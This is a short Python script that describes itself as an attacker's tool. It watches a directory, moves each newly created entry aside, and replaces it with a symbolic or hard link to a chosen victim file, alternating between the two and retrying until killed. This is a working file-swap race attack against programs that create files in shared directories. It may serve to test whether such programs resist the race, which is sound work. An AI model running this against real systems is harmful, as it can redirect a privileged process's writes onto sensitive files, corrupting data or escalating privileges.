"""An attacker in his own directory: puts a link to VICTIM wherever somebody makes something new in DIRECTORY.

    swap-sockets.py DIRECTORY VICTIM

Says "ready", then tries until it is killed. Symbolic and hard links in turn; what was there is moved aside.
"""

import os
import sys

directory, victim = sys.argv[1:]
os.chdir(directory)
print("ready", flush=True)
turn = 0
known = set()
while True:
    for name in os.listdir("."):
        if name in known or name.startswith("aside"):
            continue
        turn += 1
        try:
            os.rename(name, f"aside{turn}")
            (os.symlink if turn % 2 else os.link)(victim, name)
        except OSError:
            pass
        known.add(name)
